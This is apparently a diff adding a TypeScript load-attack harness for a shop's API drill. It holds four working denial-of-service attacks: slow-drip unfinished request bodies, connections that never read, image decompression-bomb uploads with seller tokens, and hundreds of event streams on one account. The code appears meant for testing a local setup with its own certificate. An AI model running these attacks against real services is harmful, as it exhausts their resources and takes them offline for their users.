@@ -1,0 +1,126 @@
+import { connect, type Socket } from 'node:net'
+import { connect as connectSecurely } from 'node:tls'
+
+/** Where the attacker finds the shop, and what it has got hold of. */
+export type Target = {
+  url: string
+  publishableKey: string
+  /** The token and an order of one customer. */
+  customer: { token: string; orderId: string }
+  /** The tokens of sellers whom no admin has verified. */
+  sellers: string[]
+  /** A small file of a huge picture. */
+  bomb: Uint8Array
+}
+
+/** What one connection of an attack sends and does. */
+type Habit = {
+  says: (number: number) => Buffer
+  /** What it goes on sending every five seconds. */
+  drip?: string
+  reads: boolean
+  /** Milliseconds after which it is closed and opened again. */
+  renewedAfter?: number
+}
+
+/** Milliseconds until a request that was refused is sent again, and a connection that was closed is opened again. */
+const PAUSE = 3_000
+/** Milliseconds within which an attack opens all its connections: their TLS handshakes cost this machine as much as the shop’s proxy. */
+const OPENED_WITHIN = 10_000
+const DRIP_EVERY = 5_000
+/** An answer but a stream that has begun. */
+const ANSWERED = /^HTTP\/1\.1 (?!200)/
+/** The attacker's addresses. */
+const ADDRESSES = ['127.0.66.1', '127.0.66.2', '127.0.66.3', '127.0.66.4']
+
+export type AttackName = keyof typeof ATTACKS
+
+export const ATTACKS = {
+  '200 connections with unfinished bodies': (target: Target) =>
+    attack(target, 200, {
+      says(number) {
+        const paths = ['/api/cart/check', '/auth/v1/token?grant_type=password', '/nothing-here', '/api/checkout']
+        const token = number % 4 === 3 ? [`authorization: Bearer ${target.customer.token}`] : []
+        const head = request(target, 'POST', paths[number % 4] ?? '/', [
+          ...token,
+          'content-type: application/json',
+          'content-length: 250000',
+        ])
+        // Every eighth one makes the shop keep most of a large body.
+        return Buffer.concat([head, Buffer.alloc(number % 8 === 0 ? 240_000 : 1, ' ')])
+      },
+      drip: ' ',
+      reads: true,
+    }),
+  '200 connections that read nothing': (target: Target) =>
+    attack(target, 200, {
+      says(number) {
+        const claim = number % 2 ? ['authorization: Bearer x'] : []
+        const asked = request(target, 'GET', '/api/openapi.json', claim)
+        return number % 4 < 2 ? asked : Buffer.concat(Array<Buffer>(60).fill(asked))
+      },
+      reads: false,
+      renewedAfter: 20_000,
+    }),
+  '200 uploads of tiny bombs': (target: Target) =>
+    attack(target, 200, {
+      says(number) {
+        const path = `/storage/v1/object/seller-images/bomb-${number}-${Date.now()}.avif`
+        const token = target.sellers[number % target.sellers.length]
+        const head = request(target, 'POST', path, [
+          `authorization: Bearer ${token}`,
+          'content-type: image/avif',
+          `content-length: ${target.bomb.length}`,
+        ])
+        return Buffer.concat([head, target.bomb])
+      },
+      reads: true,
+    }),
+  '600 event streams of one account': (target: Target) =>
+    attack(target, 600, {
+      says: () =>
+        request(target, 'GET', `/api/orders/${target.customer.orderId}/events`, [
+          `authorization: Bearer ${target.customer.token}`,
+        ]),
+      reads: true,
+    }),
+}
+
+/** Keeps so many connections open, each of which is opened again when it is closed. */
+function attack(target: Target, count: number, habit: Habit): void {
+  const sockets: Socket[] = []
+  const open = (number: number) => {
+    const say = () => {
+      if (socket.writable) socket.write(habit.says(number))
+    }
+    const socket = connected(target, ADDRESSES[number % ADDRESSES.length] ?? '', say)
+    sockets[number] = socket
+    if (habit.reads)
+      socket.on('data', (piece: Buffer) => {
+        if (!habit.drip && ANSWERED.test(piece.toString('latin1', 0, 12))) setTimeout(say, PAUSE)
+      })
+    else socket.pause()
+    socket.on('error', () => {})
+    socket.once('close', () => setTimeout(open, PAUSE, number))
+    if (habit.renewedAfter) setTimeout(() => socket.destroy(), habit.renewedAfter * Math.random())
+  }
+  for (let number = 0; number < count; number++) setTimeout(open, (number * OPENED_WITHIN) / count, number)
+  const { drip } = habit
+  if (drip)
+    setInterval(() => {
+      for (const socket of sockets) if (socket.writable) socket.write(drip)
+    }, DRIP_EVERY)
+}
+
+function connected({ url }: Target, localAddress: string, onConnected: () => void): Socket {
+  const { protocol, hostname, port } = new URL(url)
+  const way = { host: hostname, port: Number(port), localAddress }
+  if (protocol === 'http:') return connect(way, onConnected)
+  // The certificate is the drill's own.
+  return connectSecurely({ ...way, rejectUnauthorized: false }, onConnected)
+}
+
+function request({ publishableKey }: Target, method: string, path: string, headers: string[]): Buffer {
+  const lines = [`${method} ${path} HTTP/1.1`, 'host: shop', `apikey: ${publishableKey}`, ...headers, '', '']
+  return Buffer.from(lines.join('\r\n'))
+}
